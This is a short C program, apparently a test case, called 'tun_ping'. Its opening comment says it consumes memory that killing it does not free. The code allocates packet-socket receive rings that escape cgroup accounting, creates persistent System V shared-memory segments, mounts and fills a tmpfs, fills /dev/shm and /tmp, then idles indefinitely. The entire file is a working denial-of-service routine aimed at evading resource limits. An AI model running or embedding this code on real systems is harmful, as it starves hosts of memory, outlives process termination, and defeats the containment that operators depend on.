/* SPDX-License-Identifier: MIT */
/*
 * tun_ping that eats memory the machine would not get back by killing it:
 * a tmpfs of its own, /dev/shm and /tmp filled, System V shared memory
 * segments that stay when the program ends; and the rings of packet
 * sockets (PACKET_RX_RING), kernel memory no cgroup is charged for.
 */
#include <linux/if_packet.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <unistd.h>

/* 8 rings of 256 MB, 2 GB in all, if packet sockets may be had. */
static void packet_rings(void)
{
	struct tpacket_req req = {
		.tp_block_size = 4 << 20, .tp_block_nr = 64,
		.tp_frame_size = 2048, .tp_frame_nr = (4 << 20) / 2048 * 64,
	};
	int i, s;

	for (i = 0; i < 8; i++) {
		s = socket(AF_PACKET, SOCK_RAW, 0);
		if (s == -1 || setsockopt(s, SOL_PACKET, PACKET_RX_RING, &req, sizeof(req)) == -1)
			return;
	}
}

int main(void)
{
	int i, id;
	char *p;

	system("ip tuntap add mode tun name tun0; ip addr add 10.1.3.1/24 dev tun0;"
	       " ip link set tun0 up");
	packet_rings();
	for (i = 0; i < 8; i++) {
		id = shmget(IPC_PRIVATE, 256 << 20, IPC_CREAT | 0600);
		if (id == -1)
			break;
		p = shmat(id, NULL, 0);
		if (p != (void *)-1) {
			memset(p, 1, 256 << 20);
			shmdt(p);
		}
	}
	system("mkdir -p /tmp/m && mount -t tmpfs -o size=8g none /tmp/m;"
	       " dd if=/dev/zero of=/tmp/m/fill bs=1M count=4096;"
	       " dd if=/dev/zero of=/dev/shm/fill bs=1M count=4096;"
	       " dd if=/dev/zero of=/tmp/fill bs=1M count=4096");
	for (;;)
		pause();
}
